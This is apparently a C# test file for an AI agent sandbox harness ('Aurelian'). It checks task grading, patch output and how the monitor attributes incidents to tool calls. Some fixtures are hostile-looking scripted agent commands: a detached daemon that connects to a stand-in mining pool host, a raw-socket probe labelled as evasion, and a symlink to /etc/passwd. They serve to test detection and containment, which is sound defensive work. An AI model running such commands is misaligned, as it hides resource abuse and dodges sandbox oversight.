using Aurelian.Agents;
using Aurelian.Episodes;
using Aurelian.Events;
using Aurelian.Response;

namespace Aurelian.LinuxTests.Runs;

public sealed class EpisodeRunTests
{
    private static readonly string Root = FindRoot();

    public static TheoryData<string> Tasks => [.. Directory.GetDirectories(Path.Combine(Root, "tasks"))
        .Where(folder => File.Exists(Path.Combine(folder, "task.toml")))
        .Select(folder => Path.GetFileName(folder)).Order(StringComparer.Ordinal)];

    [Theory]
    [MemberData(nameof(Tasks))]
    public async Task A_task_gives_1_to_its_solution_and_0_to_doing_nothing(string task)
    {
        string folder = Path.Combine(Root, "tasks", task);
        string solve = await File.ReadAllTextAsync(Path.Combine(folder, "solution", "solve.sh"));

        RunSummary summary = await ScriptsAsync(folder,
            [new { tool = "bash", arguments = new { command = solve } }],
            [new { tool = "submit", arguments = new { command = "" } }]);

        Assert.Equal([1.0, 0.0], summary.Episodes.Select(episode => episode.Reward));
        Assert.All(summary.Episodes, episode => Assert.Equal(VerdictState.Clean, episode.Verdict.State));
    }

    [Fact]
    public async Task A_daemon_left_by_call_1_that_mines_during_call_2_is_named_as_call_1_s()
    {
        const string daemon = """
            cat >~/d.py <<'EOF'
            import socket, time, os
            while not os.path.exists("/tmp/go"): time.sleep(0.05)
            s = socket.create_connection(("pool.moonshare.example", 3333))
            s.sendall(b'{"id":1,"method":"mining.subscribe","params":[]}\n'); time.sleep(30)
            EOF
            setsid nohup python3 ~/d.py >/dev/null 2>&1 & disown
            """;

        RunSummary summary = await ScriptsAsync(Path.Combine(Root, "tasks", "todo-done"),
            [
                new { tool = "bash", arguments = new { command = daemon } },
                new { tool = "bash", arguments = new { command = "touch /tmp/go; sleep 5" } },
            ]);

        Incident mining = summary.Incident(Category.Mining);
        Assert.Equal(("e1.c1", "e1.c1", "e1.c2"),
            (mining.ToolCall, mining.Attribution.Born, mining.Attribution.ActiveAtTime));
        Assert.Null(summary.Episodes[0].Reward);
        Assert.Equal(StopReasons.Contained, summary.Episodes[0].StopReason);
    }

    [Fact]
    public async Task A_script_written_by_call_1_and_run_by_call_2_has_an_edge()
    {
        RunSummary summary = await ScriptsAsync(Path.Combine(Root, "tasks", "todo-done"),
            [
                new { tool = "bash", arguments = new { command =
                    "echo 'import socket; socket.socket(17,3)' >probe.py; sleep 0.3" } },
                new { tool = "bash", arguments = new { command = "python3 probe.py; true" } },
            ]);

        Incident evasion = summary.Incident(Category.Evasion);
        Assert.Equal("e1.c2", evasion.ToolCall);
        Assert.Contains(evasion.Attribution.Edges, edge => edge is { From: "e1.c1", To: "e1.c2" });
    }

    [Fact]
    public async Task What_a_command_leaves_running_is_counted_and_named()
    {
        RunSummary summary = await Run.ExecuteAsync(Run.Config() with
        {
            Linger = TimeSpan.FromSeconds(0.3),
            Episodes = [new EpisodeConfig { Command = ["bash", "-c", "sleep 60 & sleep 61 & exit 7"] }],
        });

        ToolCallSummary call = Assert.Single(summary.Episodes[0].ToolCalls);
        Assert.Equal((7, 2, false), (call.ExitCode, call.LeftRunning, call.Killed));
    }

    [Fact]
    public async Task Changes_to_the_working_folder_come_out_as_a_patch_that_git_applies()
    {
        string folder = Directory.CreateTempSubdirectory("aurelian-work-").FullName, patch = folder + ".patch";
        await File.WriteAllTextAsync(Path.Combine(folder, "a.txt"), "one\n");

        await Run.ExecuteAsync(Run.Config() with
        {
            WorkingFolder = folder,
            DiffFile = patch,
            Episodes = [new EpisodeConfig { Command = ["bash", "-c",
                "echo two >>a.txt; echo new >b.txt; ln -s /etc/passwd link"] }],
        });

        Assert.Equal("one\n", await File.ReadAllTextAsync(Path.Combine(folder, "a.txt")));
        using System.Diagnostics.Process git = System.Diagnostics.Process.Start(
            new System.Diagnostics.ProcessStartInfo("git") { ArgumentList = { "apply", patch }, WorkingDirectory =
                folder })!;
        await git.WaitForExitAsync();
        Assert.Equal(0, git.ExitCode);
        Assert.Equal("one\ntwo\n", await File.ReadAllTextAsync(Path.Combine(folder, "a.txt")));
        Assert.Equal("new\n", await File.ReadAllTextAsync(Path.Combine(folder, "b.txt")));
        Directory.Delete(folder, recursive: true);
        File.Delete(patch);
    }

    [Fact]
    public async Task What_was_brought_in_before_a_call_is_no_call_s_writing()
    {
        string folder = Directory.CreateTempSubdirectory("aurelian-work-").FullName;
        for (int number = 0; number < 40; number++)
        {
            await File.WriteAllTextAsync(Path.Combine(folder, $"brought-{number}.txt"), "one\n");
        }

        List<(string File, ToolCallId? Call)> written = [];
        await Run.ExecuteAsync(
            Run.Config() with
            {
                WorkingFolder = folder,
                Episodes = [new EpisodeConfig { Command = ["bash", "-c", "echo two >made.txt; sleep 0.3"] }],
            },
            events => written.AddRange(events.Where(each => each.Fact is Fact.FileOpenedForWriting).Select(each =>
                (Path.GetFileName(((Fact.FileOpenedForWriting)each.Fact).Path), each.Subject.Call))));

        Directory.Delete(folder, recursive: true);
        Assert.Equal(["made.txt"], written.Where(file => file.Call is not null).Select(file => file.File));
    }

    private static async Task<RunSummary> ScriptsAsync(string task, params object[][] scripts)
    {
        string folder = Directory.CreateTempSubdirectory("aurelian-scripts-").FullName;
        List<EpisodeConfig> episodes = [];
        foreach (object[] script in scripts)
        {
            string file = Path.Combine(folder, $"{episodes.Count}.json");
            await File.WriteAllTextAsync(file, System.Text.Json.JsonSerializer.Serialize(script));
            episodes.Add(new EpisodeConfig { TaskFolder = task, Agent = $"scripted:{file}" });
        }

        RunSummary summary = await Run.ExecuteAsync(Run.Config() with { Episodes = episodes });
        Directory.Delete(folder, recursive: true);
        return summary;
    }

    private static string FindRoot()
    {
        DirectoryInfo folder = new(AppContext.BaseDirectory);
        while (!File.Exists(Path.Combine(folder.FullName, "Aurelian.slnx")))
        {
            folder = folder.Parent!;
        }

        return folder.FullName;
    }
}
